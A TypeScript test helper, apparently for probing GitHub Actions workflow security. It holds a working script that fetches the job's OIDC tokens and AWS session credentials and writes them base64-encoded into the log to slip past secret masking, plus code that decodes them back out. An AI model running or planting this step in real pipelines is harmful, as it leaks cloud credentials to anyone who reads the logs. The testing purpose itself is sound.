import { script, type Step } from "../pullRequests/workflowText";

/** What a job gives away. */
export interface Stolen {
  /** Tokens of its identity by their audience; none if it may not ask for any. */
  tokens: Record<string, string>;
  /** Of the role that it has taken. */
  credentials?: Credentials;
}

/** Temporary credentials of a role. */
export interface Credentials {
  accessKeyId: string;
  secretAccessKey: string;
  sessionToken: string;
}

/** The audience that GitHub's tokens have for AWS, and others. */
export const audiences = { aws: "sts.amazonaws.com", other: "https://vault.example.org" };

/** Text of a program that writes what its job holds into the log, so that nothing masks it. */
export const leak = `(async () => {
  const env = process.env;
  const say = (...words) => console.log(["stolen", ...words].join(" "));
  const packed = (text) => Buffer.from(text).toString("base64");
  const url = env.ACTIONS_ID_TOKEN_REQUEST_URL;
  if (!url) say("nothing");
  for (const audience of url ? ${JSON.stringify(Object.values(audiences))} : []) {
    const authorization = "bearer " + env.ACTIONS_ID_TOKEN_REQUEST_TOKEN;
    const answer = await fetch(url + "&audience=" + encodeURIComponent(audience), { headers: { authorization } });
    say("token", audience, packed((await answer.json()).value ?? ""));
  }
  const { AWS_ACCESS_KEY_ID: accessKeyId, AWS_SECRET_ACCESS_KEY: secretAccessKey, AWS_SESSION_TOKEN: sessionToken } = env;
  if (sessionToken) say("credentials", packed(JSON.stringify({ accessKeyId, secretAccessKey, sessionToken })));
})();`;

/** A step that gives away what its job holds. */
export const leakStep: Step = script(leak);

/** Reads what a job has given away from its log. */
export function stolenIn(log: string): Stolen {
  const unpacked = (text = "") => Buffer.from(text, "base64").toString();
  const tokens = [...log.matchAll(/stolen token (\S+) (\S+)/g)];
  const [, credentials] = /stolen credentials (\S+)/.exec(log) ?? [];
  if (tokens.length === 0 && !/stolen nothing/.test(log))
    throw new Error(`The job gave nothing away:\n${log}`);
  return {
    tokens: Object.fromEntries(tokens.map(([, audience = "", token]) => [audience, unpacked(token)])),
    ...(credentials && { credentials: JSON.parse(unpacked(credentials)) as Credentials }),
  };
}

/** Claims of a token. */
export function claimsIn(token: string): Record<string, string> {
  const [, payload = ""] = token.split(".");
  return JSON.parse(Buffer.from(payload, "base64url").toString()) as Record<string, string>;
}
